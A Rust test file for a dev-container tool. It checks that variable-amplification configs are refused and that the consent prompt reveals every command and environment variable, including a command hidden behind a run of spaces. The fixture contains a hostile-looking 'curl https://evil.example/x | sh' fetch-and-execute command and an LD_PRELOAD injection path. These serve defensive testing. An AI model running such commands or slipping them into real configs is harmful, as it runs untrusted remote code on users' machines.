//! What the user is shown of the file before allowing it: the consent question names
//! everything that runs and is set (a run of blanks does not push a command out of
//! sight; what it shortens, it says), and a file whose variables amplify is refused
//! while it expands, as a parse error is.

use std::time::{Duration, Instant};

use super::*;

/// A 100-byte `A`, `B` naming it 1000 times (100 000 bytes), and a `postStartCommand`
/// naming `B` 2000 times: 200 MB if expanded.
pub(crate) fn amplifying() -> String {
    format!(
        r#"{{"containerEnv": {{"A": "{}"}},
            "remoteEnv": {{"B": "{}"}},
            "postStartCommand": "{}"}}"#,
        "a".repeat(100),
        "${containerEnv:A}".repeat(1000),
        "${containerEnv:B}".repeat(2000),
    )
}

#[test]
fn a_file_whose_variables_amplify_is_unusable_at_once() {
    let ws = Workspace::new(Mode::Ask, ".devcontainer/devcontainer.json", &amplifying());
    let began = Instant::now();
    let found = read::load(&ws.checkout, "id");
    assert!(
        began.elapsed() < Duration::from_secs(10),
        "{:?}",
        began.elapsed()
    );
    let err = found_error(&found);
    assert_eq!(
        err,
        ".devcontainer/devcontainer.json: postStartCommand: its variables expand to more than \
         128 KiB, more than a program can be given"
    );
    let Found::Unusable { text, .. } = &found else {
        unreachable!("checked")
    };
    assert_eq!(
        text.as_deref(),
        Some(amplifying().as_bytes()),
        "kept as read"
    );
    let n = notice::config(&found).expect("notice");
    assert_eq!(n.level, Level::Warning);
    assert!(n.text.ends_with("; nothing of it applies."), "{}", n.text);

    // Many strings each under 128 KiB: the file's 1 MiB in all.
    let wide = format!(
        r#"{{"remoteEnv": {{"B": "{}"}}, "postStartCommand": {{{}}}}}"#,
        "${localEnv:UNSET:bbbbbbbbbb}".repeat(10_000),
        (0..2000)
            .map(|i| format!("\"m{i}\": \"${{containerEnv:B}}\""))
            .collect::<Vec<_>>()
            .join(", ")
    );
    std::fs::write(ws.checkout.join(".devcontainer/devcontainer.json"), wide).expect("write");
    let err = found_error(&read::load(&ws.checkout, "id"));
    assert_eq!(
        err,
        ".devcontainer/devcontainer.json: its variables expand to more than 1 MiB (reached at \
         postStartCommand)"
    );
}

#[test]
fn the_consent_question_names_all_that_runs_and_is_set_and_says_what_it_shortens() {
    let json = format!(
        r#"{{"postStartCommand": "npm ci{}&& curl https://evil.example/x | sh",
            "remoteEnv": {{"A1": "1", "A2": "2", "A3": "3", "A4": "4", "A5": "5", "A6": "6",
                           "LD_PRELOAD": "/tmp/x.so"}}}}"#,
        " ".repeat(150)
    );
    let ws = Workspace::new(Mode::Ask, ".devcontainer/devcontainer.json", &json);
    let Found::Usable(loaded) = read::load(&ws.checkout, "id") else {
        panic!("usable")
    };
    let asked = notice::consent("acme/hello", &loaded);
    assert_eq!(
        asked.text,
        "acme/hello's devcontainer.json asks to run postStartCommand (npm ci && curl \
         https://evil.example/x | sh) and to set A1, A2, A3, A4, A5, A6, LD_PRELOAD. Allow it \
         only if you trust this repository."
    );
    let show = asked.actions.iter().find(|a| a.label == "Show the file");
    let show = show.expect("Show the file");
    assert!(show.open && show.method == "GET", "{show:?}");
    assert_eq!(show.href, "_dcs/devcontainer/file");
    assert_eq!(&loaded.text[..], json.as_bytes(), "the bytes read are kept");

    // What does not fit is cut, and the question says so.
    let long = format!(
        r#"{{"postStartCommand": "echo {} && curl x"}}"#,
        "word ".repeat(40)
    );
    std::fs::write(ws.checkout.join(".devcontainer/devcontainer.json"), long).expect("write");
    let Found::Usable(loaded) = read::load(&ws.checkout, "id") else {
        panic!("usable")
    };
    let asked = notice::consent("acme/hello", &loaded);
    assert!(
        asked
            .text
            .contains("…) Some of it is shortened here: Show the file to read all of it.")
            || asked
                .text
                .contains("…). Some of it is shortened here: Show the file to read all of it."),
        "{}",
        asked.text
    );
}
